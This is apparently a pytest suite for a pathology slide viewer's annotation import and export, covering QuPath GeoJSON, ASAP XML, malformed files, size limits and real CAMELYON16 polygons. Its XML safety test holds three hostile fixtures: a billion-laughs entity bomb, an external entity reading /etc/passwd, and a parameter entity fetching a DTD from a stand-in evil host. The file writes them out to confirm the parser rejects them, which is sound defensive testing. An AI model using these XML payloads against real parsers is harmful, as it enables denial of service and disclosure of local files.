"""QuPath GeoJSON and ASAP XML: round trips, hostile and broken files, real CAMELYON16 polygons."""

from __future__ import annotations

import json
import re
import time
from pathlib import Path

import numpy as np
import pytest

from histoviewer.core.annotations import (
    Annotation,
    AnnotationClass,
    AnnotationDocument,
    AnnotationSet,
    ShapeKind,
    load_annotations,
    measure,
    save_annotations,
)
from histoviewer.core.annotations import limits
from histoviewer.core.annotations.asap_xml import asap_xml_bytes, parse_asap_xml
from histoviewer.core.annotations.geojson_io import geojson_bytes, parse_geojson
from histoviewer.core.annotations.shapes import ObjectKind
from histoviewer.core.errors import AnnotationFormatError
from histoviewer.core.geometry import max_feret_diameter_brute_force

K = ShapeKind
CLASSES = (AnnotationClass("Tumor", (200, 0, 0), True), AnnotationClass("Normal", (0, 160, 0)),
           AnnotationClass("Lymphocytes", (10, 20, 30)))


def every_kind() -> AnnotationSet:
    rng = np.random.default_rng(7)
    blob = np.column_stack([rng.uniform(1e4, 2e4, 50), rng.uniform(3e4, 4e4, 50)]) + rng.random((50, 2)) / 3
    return AnnotationSet((
        Annotation(K.RECTANGLE, ((100.5, 200.25), (50, 20)), class_name="Normal", name="rect"),
        Annotation(K.ELLIPSE, ((1e4 + 1 / 3, 2e4), (1.2e4, 2.1e4 + 0.1)), class_name="Tumor", name="ell",
                   note="check\nwith IHC"),
        Annotation(K.POLYGON, tuple(map(tuple, blob)), class_name="Tumor", name="blob",
                   properties={"size_class": "micro", "nested": {"a": [1, 2]}}),
        Annotation(K.POLYGON, ((0, 0), (100, 0), (100, 100), (0, 100)), name="holed",
                   l0_holes=(((10, 10), (20, 10), (20, 20)),)),
        Annotation(K.FREEHAND, ((5, 5), (7.125, 5), (6, 9)), class_name="Lymphocytes", name="lasso"),
        Annotation(K.LINE, ((0.1, 0.2), (3e4, 4e4)), name="ruler"),
        Annotation(K.POINTS, ((1, 2),), class_name="Tumor", name="one point"),
        Annotation(K.POINTS, ((1, 2), (3, 4.5), (1e5, 2e5))),
    ), CLASSES)


def assert_same(a: AnnotationSet, b: AnnotationSet) -> None:
    assert len(a.annotations) == len(b.annotations)
    for x, y in zip(a.annotations, b.annotations):
        assert (x.uid, x.kind, x.name, x.note, x.class_name) == (y.uid, y.kind, y.name, y.note, y.class_name)
        assert x.l0_points == y.l0_points and x.l0_holes == y.l0_holes  # exact floats
        assert dict(x.properties) == dict(y.properties)


# --- GeoJSON -------------------------------------------------------------------------------

def test_geojson_round_trip_keeps_every_kind_exactly(tmp_path):
    aset = every_kind()
    save_annotations(tmp_path / "a.geojson", aset)
    back = load_annotations(tmp_path / "a.geojson")
    assert back.warnings == ()
    assert_same(aset, back.annotation_set)
    assert {c.name: c for c in back.annotation_set.classes}["Lymphocytes"] == CLASSES[2]
    # and the text is stable: model -> GeoJSON -> model -> GeoJSON gives the same bytes
    assert geojson_bytes(back.annotation_set) == geojson_bytes(aset)


def test_geojson_is_what_qupath_reads():
    doc = json.loads(geojson_bytes(every_kind()))
    assert doc["type"] == "FeatureCollection"
    types = [f["geometry"]["type"] for f in doc["features"]]
    assert types == ["Polygon", "Polygon", "Polygon", "Polygon", "Polygon", "LineString", "Point", "MultiPoint"]
    ell = doc["features"][1]
    ring = ell["geometry"]["coordinates"][0]
    assert ring[0] == ring[-1] and len(ring) == 129
    props = ell["properties"]
    assert props["objectType"] == "annotation" and props["name"] == "ell"
    assert props["classification"] == {"name": "Tumor", "color": [200, 0, 0]}
    assert props["histoviewer"]["shape"] == "ellipse"
    assert len(doc["features"][3]["geometry"]["coordinates"]) == 2  # outer ring + hole
    assert "classification" not in doc["features"][3]["properties"]  # unclassified, as QuPath writes


QUPATH_EXPORT = """[
  {"type": "Feature", "id": "7b0c-1", "geometry": {"type": "Polygon", "coordinates":
    [[[1024.5, 2048.25], [1100, 2048.25], [1100, 2200.125], [1024.5, 2048.25]]]},
   "properties": {"objectType": "annotation", "name": "Region 1", "isLocked": false,
                  "classification": {"name": "Tumor", "colorRGB": -3670016}}},
  {"type": "Feature", "geometry": {"type": "MultiPolygon", "coordinates":
    [[[[0, 0], [10, 0], [10, 10], [0, 0]]], [[[20, 20], [30, 20], [30, 30], [20, 20]]]]},
   "properties": {"objectType": "annotation", "classification": {"name": "Stroma", "color": [150, 200, 150]}}},
  {"type": "Feature", "geometry": {"type": "Point", "coordinates": [5, 6]},
   "properties": {"objectType": "detection", "measurements": {"Area": 3.5}}}
]"""


def test_qupath_style_export_is_read_with_warnings(tmp_path):
    path = tmp_path / "qupath.json"
    path.write_text(QUPATH_EXPORT)
    result = load_annotations(path)
    anns = result.annotation_set.annotations
    assert [a.kind for a in anns] == [K.POLYGON, K.POLYGON, K.POLYGON, K.POINTS]
    assert anns[0].uid == "7b0c-1" and anns[0].name == "Region 1"
    assert anns[0].l0_points == ((1024.5, 2048.25), (1100, 2048.25), (1100, 2200.125))
    assert anns[0].properties == {"isLocked": False}
    assert result.annotation_set.class_named("Tumor").rgb == (200, 0, 0)  # the default wins
    assert result.annotation_set.class_named("Stroma").rgb == (150, 200, 150)
    assert anns[3].object_kind is ObjectKind.DETECTION and "objectType" not in anns[3].properties
    assert anns[3].properties["measurements"] == {"Area": 3.5}
    assert any("MultiPolygon split into 2" in w for w in result.warnings)
    out = json.loads(geojson_bytes(result.annotation_set))
    assert out["features"][3]["properties"]["objectType"] == "detection"
    assert out["features"][3]["properties"]["measurements"] == {"Area": 3.5}
    assert out["features"][0]["geometry"]["coordinates"][0][2] == [1100, 2200.125]


def test_shape_edited_elsewhere_becomes_a_polygon():
    doc = json.loads(geojson_bytes(every_kind()))
    doc["features"][1]["geometry"]["coordinates"][0][5][0] += 3.0  # QuPath user moved a vertex
    back = parse_geojson(json.dumps(doc).encode(), "edited.geojson")
    ann = back.annotation_set.annotations[1]
    assert ann.kind is K.POLYGON and len(ann.l0_points) == 128
    assert any("ellipse outline was changed" in w for w in back.warnings)


@pytest.mark.parametrize("text, match", [
    ('{"type": "FeatureCollection", "features": [\n{"type": "Feature",,}]}', r"line 2, column 20"),
    ('{"type": "Topology"}', "expected a GeoJSON FeatureCollection"),
    ('{"type": "FeatureCollection", "features": [{"type": "Feature", "geometry": {"type": "Polygon", '
     '"coordinates": [[[0, 0], [1, 0], [1, 1]]]}, "properties": {}}, {"type": "Feature", "geometry": '
     '{"type": "Polygon", "coordinates": [[[0, 0], ["x", 0], [1, 1]]]}, "properties": {"name": "bad one"}}]}',
     r"feature 1 \('bad one'\): a position must hold numbers"),
    ('{"type": "FeatureCollection", "features": [{"type": "Feature", "geometry": {"type": "LineString", '
     '"coordinates": [[0, 0]]}}]}', r"feature 0: .*at least 2"),
    ('{"type": "FeatureCollection", "features": [{"type": "Feature", "geometry": {"type": "Point", '
     '"coordinates": [0, 1e400]}}]}', r"feature 0: .*non-finite"),
    ("[" * 100000 + "]" * 100000, "nested too deeply|not valid JSON"),
    (b"\xff\xfe{}", "not UTF-8"),
])
def test_broken_geojson_names_the_place(tmp_path, text, match):
    path = tmp_path / "broken.geojson"
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    with pytest.raises(AnnotationFormatError, match=match) as info:
        load_annotations(path)
    assert "broken.geojson" in str(info.value)


# --- ASAP XML ------------------------------------------------------------------------------

CAMELYON_LIKE = """<?xml version="1.0"?>
<ASAP_Annotations>
\t<Annotations>
\t\t<Annotation Name="Annotation 0" Type="Polygon" PartOfGroup="_0" Color="#F4FA58">
\t\t\t<Coordinates>
\t\t\t\t<Coordinate Order="0" X="71924.1234567" Y="131761.00001" />
\t\t\t\t<Coordinate Order="2" X="71902" Y="131801.5" />
\t\t\t\t<Coordinate Order="1" X="71919.75" Y="131761" />
\t\t\t\t<Coordinate Order="3" X="71924.1234567" Y="131761.00001" />
\t\t\t</Coordinates>
\t\t</Annotation>
\t\t<Annotation Name="Annotation 1" Type="Spline" PartOfGroup="_1" Color="#F4FA58">
\t\t\t<Coordinates><Coordinate Order="0" X="1e-05" Y="2.5" /><Coordinate Order="1" X="10" Y="2.5" /><Coordinate Order="2" X="10" Y="20" /></Coordinates>
\t\t</Annotation>
\t\t<Annotation Name="island &amp; co" Type="Polygon" PartOfGroup="_2" Color="#64FE2E">
\t\t\t<Coordinates><Coordinate Order="0" X="-91" Y="1" /><Coordinate Order="1" X="-92" Y="1" /><Coordinate Order="2" X="-92" Y="2" /></Coordinates>
\t\t</Annotation>
\t\t<Annotation Name="box" Type="Rectangle" PartOfGroup="None" Color="#ff0000">
\t\t\t<Coordinates><Coordinate Order="0" X="0" Y="0" /><Coordinate Order="1" X="5" Y="0" /><Coordinate Order="2" X="5" Y="6" /><Coordinate Order="3" X="0" Y="6" /></Coordinates>
\t\t</Annotation>
\t\t<Annotation Name="tilted" Type="Rectangle" PartOfGroup="_0" Color="#F4FA58">
\t\t\t<Coordinates><Coordinate Order="0" X="0" Y="0" /><Coordinate Order="1" X="5" Y="1" /><Coordinate Order="2" X="4" Y="6" /><Coordinate Order="3" X="-1" Y="5" /></Coordinates>
\t\t</Annotation>
\t\t<Annotation Name="dot" Type="Dot" PartOfGroup="_0" Color="#F4FA58">
\t\t\t<Coordinates><Coordinate Order="0" X="7.5" Y="8.5" /></Coordinates>
\t\t</Annotation>
\t\t<Annotation Name="cells" Type="PointSet" PartOfGroup="_0" Color="#F4FA58">
\t\t\t<Coordinates><Coordinate Order="0" X="7.5" Y="8.5" /></Coordinates>
\t\t</Annotation>
\t\t<Annotation Name="ruler" Type="Measurement" PartOfGroup="None" Color="#ff0000">
\t\t\t<Coordinates><Coordinate Order="0" X="0" Y="0" /><Coordinate Order="1" X="300" Y="400" /></Coordinates>
\t\t</Annotation>
\t\t<Annotation Name="slip" Type="Polygon" PartOfGroup="_0" Color="#F4FA58">
\t\t\t<Coordinates><Coordinate Order="0" X="68078" Y="94925" /><Coordinate Order="1" X="68057" Y="94946" /></Coordinates>
\t\t</Annotation>
\t</Annotations>
\t<AnnotationGroups>
\t\t<Group Name="_0" PartOfGroup="None" Color="#ff0000"><Attributes /></Group>
\t\t<Group Name="_1" PartOfGroup="None" Color="#ff0000"><Attributes /></Group>
\t\t<Group Name="_2" PartOfGroup="None" Color="#64FE2E"><Attributes /></Group>
\t</AnnotationGroups>
</ASAP_Annotations>
"""

_ANN = re.compile(r'<Annotation Name="([^"]*)" Type="(\w+)" PartOfGroup="([^"]*)"')
_COORD = re.compile(r'<Coordinate Order="(\d+)" X="([^"]+)" Y="([^"]+)"')


def _annotations_text(xml: str) -> list[tuple[tuple[str, str, str], list[tuple[str, str]]]]:
    """(Name, Type, group) and the (X, Y) texts in Order of each Annotation element."""
    out = []
    for block in xml.split("<Annotation ")[1:]:
        head = _ANN.match("<Annotation " + block).groups()
        coords = sorted((int(o), x, y) for o, x, y in _COORD.findall(block))
        out.append((head, [(x, y) for _, x, y in coords]))
    return out


def test_asap_xml_round_trip_keeps_every_vertex_text_group_and_name():
    result = parse_asap_xml(CAMELYON_LIKE.encode(), "camelyon.xml")
    kinds = [a.kind for a in result.annotation_set.annotations]
    assert kinds == [K.POLYGON, K.POLYGON, K.POLYGON, K.RECTANGLE, K.POLYGON, K.POINTS, K.POINTS, K.LINE, K.LINE]
    assert any("'slip'" in w and "no area" in w for w in result.warnings)
    assert result.annotation_set.class_named("_0").is_tumour and not result.annotation_set.class_named("_2").is_tumour
    assert result.annotation_set.annotations[2].name == "island & co"
    assert result.annotation_set.annotations[3].class_name is None
    written = asap_xml_bytes(result.annotation_set).decode()
    assert _annotations_text(written) == _annotations_text(CAMELYON_LIKE)
    assert 'Name="island &amp; co"' in written and 'Color="#64FE2E"' in written
    again = parse_asap_xml(written.encode(), "again.xml")
    assert [(a.kind, a.l0_points, a.name, a.class_name) for a in again.annotation_set.annotations] == \
        [(a.kind, a.l0_points, a.name, a.class_name) for a in result.annotation_set.annotations]


def test_model_to_asap_and_back_keeps_areas_lines_points(tmp_path):
    aset = every_kind()
    losses = save_annotations(tmp_path / "a.xml", aset)
    assert sorted(losses) == ["1 ellipse shapes written as polygons", "1 freehand shapes written as polygons",
                              "1 notes dropped"]
    back = load_annotations(tmp_path / "a.xml").annotation_set.annotations
    assert [a.name for a in back] == ["rect", "ell", "blob", "holed", "lasso", "ruler", "one point", ""]
    assert back[3].l0_holes == aset.annotations[3].l0_holes  # written as a named polygon, read as the hole
    assert back[0].kind is K.RECTANGLE and back[0].box() == aset.annotations[0].box()
    assert back[1].l0_points == aset.annotations[1].outline()
    assert back[2].l0_points == aset.annotations[2].l0_points and back[2].class_name == "Tumor"
    assert back[5].kind is K.LINE and back[7].l0_points == aset.annotations[7].l0_points


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol">""" + "".join(
    f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">' for i in range(1, 10)) + """]>
<ASAP_Annotations><Annotations><Annotation Name="&lol9;" Type="Dot" PartOfGroup="None">
<Coordinates><Coordinate Order="0" X="1" Y="1"/></Coordinates></Annotation></Annotations></ASAP_Annotations>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<ASAP_Annotations><Annotations><Annotation Name="&x;" Type="Dot" PartOfGroup="None">
<Coordinates><Coordinate Order="0" X="1" Y="1"/></Coordinates></Annotation></Annotations></ASAP_Annotations>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://example.invalid/evil.dtd"> %ext;]>
<ASAP_Annotations/>"""


@pytest.mark.parametrize("xml", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY],
                         ids=["billion-laughs", "external-entity", "parameter-entity"])
def test_hostile_xml_is_refused_quickly_and_the_document_is_untouched(tmp_path, xml):
    path = tmp_path / "hostile.xml"
    path.write_text(xml)
    doc = AnnotationDocument()
    doc.add(Annotation(K.POINTS, ((1, 1),), name="mine"))
    before = doc.to_set()
    start = time.perf_counter()
    with pytest.raises(AnnotationFormatError, match=r"hostile\.xml: line 2, column \d+: refused as unsafe XML"):
        doc.import_set(load_annotations(path).annotation_set)
    assert time.perf_counter() - start < 1.0
    assert doc.to_set() == before and doc.undo_text == "Add points"


@pytest.mark.parametrize("xml, match", [
    ("<ASAP_Annotations><Annotations>\n<Annotation Name='a'>\n</Annotations>", r"line 3, column 3: not well-formed|line 3, column \d+"),
    ("<Other/>", "root element is 'Other'"),
    ("<ASAP_Annotations><Annotations><Annotation Name='a' Type='Polygon'><Coordinates>\n"
     "<Coordinate Order='0' X='1' Y='1'/>\n<Coordinate Order='1' X='a' Y='1'/>", r"line 3, column 1: annotation 0 coordinate 1"),
    ("<ASAP_Annotations><Annotations><Annotation Name='a' Type='Polygon'><Coordinates>"
     "<Coordinate Order='0' Y='1'/>", "missing attribute 'X'"),
    ("<ASAP_Annotations><Annotations><Annotation Name='far' Type='Dot'><Coordinates>"
     "<Coordinate Order='0' X='1e300' Y='1'/></Coordinates></Annotation></Annotations></ASAP_Annotations>",
     r"annotation 0 \('far'\): .*beyond"),
])
def test_broken_xml_names_the_place(tmp_path, xml, match):
    path = tmp_path / "broken.xml"
    path.write_text(xml)
    with pytest.raises(AnnotationFormatError, match=match) as info:
        load_annotations(path)
    assert "broken.xml" in str(info.value)


def test_limits_stop_large_files(tmp_path, monkeypatch):
    xml = asap_xml_bytes(every_kind())
    geojson = geojson_bytes(every_kind())
    monkeypatch.setattr(limits, "MAX_VERTICES_PER_ANNOTATION", 20)
    with pytest.raises(AnnotationFormatError, match="annotation 1 has 21 vertices, more than 20"):
        parse_asap_xml(xml, "big.xml")  # stopped at the 21st coordinate, not at the end
    with pytest.raises(AnnotationFormatError, match="feature 1 has 129 vertices"):
        parse_geojson(geojson, "big.geojson")
    monkeypatch.setattr(limits, "MAX_VERTICES_PER_ANNOTATION", 10**6)
    monkeypatch.setattr(limits, "MAX_TOTAL_VERTICES", 100)
    with pytest.raises(AnnotationFormatError, match="more than 100 vertices in all"):
        parse_asap_xml(xml, "big.xml")
    monkeypatch.setattr(limits, "MAX_TOTAL_VERTICES", 10**6)
    monkeypatch.setattr(limits, "MAX_ANNOTATIONS", 3)
    with pytest.raises(AnnotationFormatError, match="more than 3 annotations"):
        parse_geojson(geojson_bytes(every_kind()), "many.geojson")
    monkeypatch.setattr(limits, "MAX_FILE_BYTES", 100)
    path = tmp_path / "huge.xml"
    path.write_bytes(xml)
    with pytest.raises(AnnotationFormatError, match="huge.xml: larger than"):
        load_annotations(path)


def test_unknown_extension_and_missing_file(tmp_path):
    with pytest.raises(AnnotationFormatError, match=r"notes\.txt: unknown annotation format"):
        load_annotations(tmp_path / "notes.txt")
    with pytest.raises(AnnotationFormatError, match=r"gone\.xml: cannot read"):
        load_annotations(tmp_path / "gone.xml")


# --- real CAMELYON16 lesion polygons -------------------------------------------------------

def _camelyon_files(shared_data: Path) -> list[Path]:
    files = sorted((shared_data / "annotations" / "camelyon16-train").glob("Tumor_*.json"))
    if not files:
        pytest.skip("CAMELYON16 annotations not found under shared/data/annotations")
    return files


def _independent_diameter(pts: np.ndarray) -> tuple[float, float]:
    """Largest diameter without a convex hull or calipers: every pair for up to 2000
    vertices; else every pair among the points extreme along 1440 directions (the ends of
    the diameter are extreme along their own direction; along a sampled direction at most
    half a step (0.0625 deg) away, the extremes are at least cos(step / 2) = 1 - 6e-7 of
    the diameter apart)."""
    if len(pts) <= 2000:
        return max_feret_diameter_brute_force(pts), 1e-9
    theta = np.linspace(0, np.pi, 1440, endpoint=False)
    proj = np.stack([np.cos(theta), np.sin(theta)], axis=1) @ (pts - pts.mean(axis=0)).T  # (directions, N)
    extreme = np.unique(np.concatenate([proj.argmax(axis=1), proj.argmin(axis=1)]))
    return max_feret_diameter_brute_force(pts[extreme]), 1e-6


def _open_ring(vertices) -> tuple:
    ring = tuple(tuple(map(float, v)) for v in vertices)
    return ring[:-1] if len(ring) > 3 and ring[0] == ring[-1] else ring


def _check_camelyon(files: list[Path], tmp_path: Path) -> int:
    n = 0
    for src in files:
        raw = json.loads(src.read_text())
        mpp = 0.243 if int(src.stem.split("_")[1]) <= 70 else 0.226
        imported = load_annotations(src)
        xml = tmp_path / (src.stem + ".xml")
        save_annotations(xml, imported.annotation_set)
        back = load_annotations(xml).annotation_set.annotations
        expected = [(p, "_0") for p in raw.get("positive", [])] + [(p, "_2") for p in raw.get("negative", [])]
        # A negative polygon wholly inside a positive one is its hole (CAMELYON16's exclusion
        # group): every ring is kept, holes as holes of the polygon that encloses them.
        holes = {tuple(h) for a in back for h in a.l0_holes}
        as_hole = [(p, g) for p, g in expected if g == "_2" and _open_ring(p["vertices"]) in holes]
        assert len(as_hole) == sum(len(a.l0_holes) for a in back), src.name
        expected = [e for e in expected if e not in as_hole]
        assert len(back) == len(expected), src.name
        n += len(as_hole)  # every ring is counted: the holes were found vertex for vertex above
        for ann, (poly, group) in zip(back, expected):
            verts = [tuple(map(float, v)) for v in poly["vertices"]]
            stored = list(ann.l0_points) + ([ann.l0_points[0]] if ann.properties.get("asap_closed") else [])
            assert stored == verts, f"{src.name} {poly['name']}: vertices changed"
            assert (ann.name, ann.class_name) == (poly["name"], group)
            m = measure(ann, mpp, is_tumour=(group == "_0"))
            reference_px, rel = _independent_diameter(np.asarray(verts))
            assert m.max_diameter_px == pytest.approx(reference_px, rel=rel, abs=1e-9), f"{src.name} {poly['name']}"
            if ann.kind.is_area and group == "_0":
                assert m.size_class.value in ("itc", "micro", "macro")
            n += 1
        # and the XML reads back into GeoJSON without loss too
        geo = tmp_path / (src.stem + ".geojson")
        save_annotations(geo, load_annotations(xml).annotation_set)
        assert [a.l0_points for a in load_annotations(geo).annotation_set.annotations] == [a.l0_points for a in back]
    return n


def test_camelyon16_sample_converts_without_loss(shared_data, tmp_path):
    """Real files from both centres, including the one with a repeated first vertex
    (Tumor_021) and the one with a two-vertex 'polygon' (Tumor_054); all 110 are checked
    by the slow test below."""
    files = _camelyon_files(shared_data)
    pick = {f.stem for f in files[::40]} | {"Tumor_021", "Tumor_054", "Tumor_110"}
    assert _check_camelyon([f for f in files if f.stem in pick], tmp_path) > 50


@pytest.mark.slow
def test_all_camelyon16_files_convert_without_loss(shared_data, tmp_path):
    files = _camelyon_files(shared_data)
    assert len(files) == 110
    assert _check_camelyon(files, tmp_path) == 2588
